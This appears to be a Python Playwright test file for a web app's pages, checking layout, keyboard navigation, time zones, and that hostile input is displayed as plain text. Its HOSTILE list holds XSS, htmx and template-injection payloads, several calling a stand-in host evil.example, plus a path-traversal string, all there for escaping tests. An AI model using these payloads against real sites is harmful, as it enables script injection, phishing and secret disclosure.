"""What holds on every page: no complaint of the browser, no sideways scrolling, keyboard alone, names stay names."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from syncengine.models import Connection
from tests.browser.looks import faults_of
from tests.factories import make_company, make_connection, make_dataset, make_record
from tests.syncengine.lab import Lab

type Visit = Callable[..., Page]

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    '" onfocus="alert(1)" autofocus="',
    '" onmouseover="alert(1)',
    '" hx-get="https://evil.example" hx-trigger="load',
    '<div hx-get="https://evil.example" hx-trigger="load"></div>',
    '<b data-hx-on:click="alert(1)">x</b>',
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>Sign in</button></form>",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "${alert(1)}",
    "`alert(1)`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "\u202eevil\u202c",
    "a\u0300\u0301\u0302\u0303" * 20,
    "名前" * 60,
    "W" * 200,
    "../../etc/passwd",
    '=HYPERLINK("https://evil.example")',
]


@pytest.fixture
def linked(portal: Lab, alive: None) -> Connection:
    connection = portal.connection(make_company("Harbour Bakery"))
    make_dataset(connection, "invoices", "Complete")
    make_dataset(connection, "items", "FetchError", error_message="It answered 503.", upstream_words="{}" * 400)
    make_record(connection, "inv-1")
    return connection


def addresses(connection: Connection) -> list[str]:
    company, own = f"/companies/{connection.company_id}", f"/connections/{connection.pk}"
    dataset = connection.datasets.get(data_type="items")
    return [
        "/",
        "/companies/",
        "/companies/?q=zzz",
        "/companies/new/",
        f"{company}/",
        f"{company}/rename/",
        f"{company}/delete/",
        f"{company}/connect/",
        f"{company}/history/",
        f"{company}/settings/",
        f"{own}/unlink/",
        f"{own}/delete/",
        f"{own}/data/invoices/",
        "/data/history/",
        f"/data/history/{dataset.pk}/",
        "/settings/data-types/",
        "/integrations/",
        "/integrations/mqjo/",
        "/monitor/webhooks/",
        "/monitor/webhooks/new/",
        "/monitor/webhooks/deliveries/",
        "/monitor/webhooks/events/",
        "/monitor/webhooks/events/read.completed/",
        "/developers/api-keys/",
        "/developers/api-keys/new/",
        "/settings/organisation/",
    ]


@pytest.mark.parametrize("width", [1280, 390, 360])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_pages_fit_and_nothing_complains(visit: Visit, linked: Connection, width: int, scheme: str) -> None:
    page = visit(width=width, color_scheme=scheme)
    wrong = {}
    for address in addresses(linked):
        answer = page.goto(address)
        assert answer is not None
        assert answer.status == 200, address
        wrong[address] = faults_of(page)
    assert {address: faults for address, faults in wrong.items() if faults} == {}


def test_keyboard_alone(visit: Visit, linked: Connection) -> None:
    page = visit()
    page.goto("/companies/")
    page.keyboard.press("Tab")
    skip = page.locator(".skip-link")
    expect(skip).to_be_focused()
    expect(skip).to_be_in_viewport()
    page.keyboard.press("Enter")
    expect(page.locator("#main")).to_be_focused()
    page.keyboard.press("/")
    expect(page.locator("#topbar-q")).to_be_focused()
    page.keyboard.type("harbour")
    page.keyboard.press("Enter")
    page.wait_for_url("**/companies/?q=harbour")
    unseen = []
    for _ in range(40):
        page.keyboard.press("Tab")
        seen = page.evaluate(
            "(() => { const e = document.activeElement; const s = getComputedStyle(e);"
            "return [e.tagName, e.textContent.trim().slice(0, 20),"
            "s.outlineStyle !== 'none' && parseFloat(s.outlineWidth) > 0] })()"
        )
        if seen[0] == "BODY":
            break
        if not seen[2]:
            unseen.append(seen)
    assert unseen == []


def test_escape_closes_a_menu_and_gives_the_focus_back(visit: Visit, linked: Connection) -> None:
    page = visit()
    account = page.locator('summary[aria-label="Your account"]')
    account.focus()
    page.keyboard.press("Enter")
    expect(page.get_by_role("button", name="Sign out")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_role("button", name="Sign out")).to_be_hidden()
    expect(account).to_be_focused()


def test_times_follow_the_browsers_zone_when_asked(visit: Visit, linked: Connection) -> None:
    page = visit(timezone_id="Asia/Tokyo")
    page.goto(f"/companies/{linked.company_id}/")
    page.locator('summary[aria-label^="Time zone"]').click()
    page.get_by_role("button", name="Browser (Asia/Tokyo)").click()
    page.wait_for_load_state()
    titles = page.evaluate("[...document.querySelectorAll('time')].map(t => t.title)")
    assert titles != []
    assert [title for title in titles if not title.endswith(" JST")] == []


def test_a_tap_shows_the_exact_time(visit: Visit, linked: Connection) -> None:
    page = visit()
    page.goto(f"/companies/{linked.company_id}/")
    time = page.locator(".feed time, .facts time").first
    exact = time.get_attribute("title")
    time.click()
    expect(time).to_have_text(exact or "")
    time.click()
    expect(time).not_to_have_text(exact or "")


def test_hostile_names_stay_names(visit: Visit, portal: Lab, alive: None) -> None:
    integration = portal.integration()
    companies = []
    for name in HOSTILE:
        company = make_company(name, description=name)
        connection = make_connection(
            company, integration=integration, status="Deauthorized", status_reason=name, upstream_words=name
        )
        make_dataset(
            connection, "items", "FetchError", error_message=name, upstream_words=name, status_description=name[:300]
        )
        companies.append((name, company, connection))
    page = visit()
    page.goto("/")
    page.goto("/companies/")
    spoilt = {}
    for name, company, connection in companies:
        page.goto(f"/companies/{company.pk}/")
        shown = page.evaluate("document.querySelector('h1').textContent")
        foreign = page.evaluate(
            "[...document.querySelectorAll('main *')].filter(e => [...e.attributes].some(a =>"
            "a.name.startsWith('on') || /evil\\.example/.test(a.value) && !['value', 'title'].includes(a.name))).length"
        )
        if shown != name or foreign:
            spoilt[name] = (shown, foreign)
        page.goto(f"/data/history/{connection.datasets.get().pk}/")
    for name, company, _ in companies[:4]:
        page.goto("/companies/")
        page.fill("#company-q", name)
        page.goto(f"/companies/{company.pk}/delete/")
        expect(page.locator("main h2")).to_have_text(f"Delete {' '.join(name.split())}?")
    assert spoilt == {}
